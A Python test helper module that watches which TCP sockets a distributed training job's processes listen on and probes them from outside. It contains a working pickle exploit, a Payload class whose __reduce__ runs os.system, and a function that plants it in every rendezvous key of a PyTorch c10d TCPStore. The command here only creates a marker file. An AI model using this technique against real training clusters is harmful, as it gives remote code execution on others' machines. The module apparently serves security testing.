"""What a running job exposes on the network, seen from outside it: the sockets its processes listen on, and
what a stranger who connects to them can make them do (docs/security.md)."""

from __future__ import annotations

import base64
import ipaddress
import pickle
import threading
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import psutil

from tests.worker.procs import Stack

JOB_MODULES = ("worker.grpo.launch", "worker.rank_job", "torch.distributed.run")
# What forked launchers and ranks name themselves: their command line is the worker's (worker.spare_launcher)
FORKED_NAMES = ("grpo-launcher", "grpo-rank-")


def job_processes(stack: Stack) -> list[psutil.Process]:
    """The launcher and rank processes of this stack's jobs: descendants of its processes, by their name or command
    line. (Not by their environment: Celery's process titles overwrite what /proc shows of a forked one's.)"""
    found: list[psutil.Process] = []
    for proc in stack.procs:
        try:
            descendants = psutil.Process(proc.popen.pid).children(recursive=True)
        except psutil.Error:
            continue
        found.extend(child for child in descendants if is_job_process(child))
    return found


def is_job_process(proc: psutil.Process) -> bool:
    try:
        return proc.name().startswith(FORKED_NAMES) or any(m in " ".join(proc.cmdline()) for m in JOB_MODULES)
    except psutil.Error:
        return False


def listeners(processes: list[psutil.Process]) -> set[tuple[str, int]]:
    """(address, port) of every TCP socket these processes listen on."""
    found = set()
    for proc in processes:
        try:
            for conn in proc.net_connections(kind="tcp"):
                if conn.status == psutil.CONN_LISTEN:
                    found.add((conn.laddr.ip, conn.laddr.port))
        except psutil.Error:
            continue
    return found


class ListenerWatch:
    """Samples the listening sockets of a stack's job processes in a thread until stopped."""

    def __init__(self, stack: Stack, *, on_listener: Callable[[str, int], None] | None = None) -> None:
        self.stack = stack
        self.seen: set[tuple[str, int]] = set()
        self.on_listener = on_listener
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> ListenerWatch:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=30)

    def _run(self) -> None:
        while not self._stop.wait(0.05):
            for address, port in listeners(job_processes(self.stack)) - self.seen:
                self.seen.add((address, port))
                if self.on_listener is not None:
                    self.on_listener(address, port)


def not_on(seen: set[tuple[str, int]], allowed: str) -> list[tuple[str, int]]:
    """The listeners that are wildcards or on another address than `allowed`."""
    wanted = ipaddress.ip_address(allowed)
    return [(a, p) for a, p in seen if ipaddress.ip_address(a) != wanted]


class Payload:
    """A pickle that, unpickled, creates `marker`: what an attacker would plant in a rendezvous key."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (f"touch {self.marker}",)


def plant_rendezvous_pickles(address: str, port: int, marker: Path, guesses: list[str]) -> list[str]:
    """Connect to a listener as a c10d store client knowing nothing the job did not publish, and overwrite
    every rendezvous key it lists, and the `guesses`, with a pickle that creates `marker` (torch's dynamic
    rendezvous stores its state as base64 of a pickle). Returns the keys written; a listener that is not a
    store writes nothing."""
    import torch.distributed as dist

    try:
        store = dist.TCPStore(address, port, None, False, timedelta(seconds=2))
        keys = [k for k in store.list_keys() if "rendezvous" in k]
    except Exception:
        return []
    value = base64.b64encode(pickle.dumps(Payload(marker))).decode("ascii")  # the store keeps its UTF-8 bytes
    written = []
    for key in [*keys, *guesses]:
        try:
            store.set(key, value)
            written.append(key)
        except Exception:
            continue
    return written
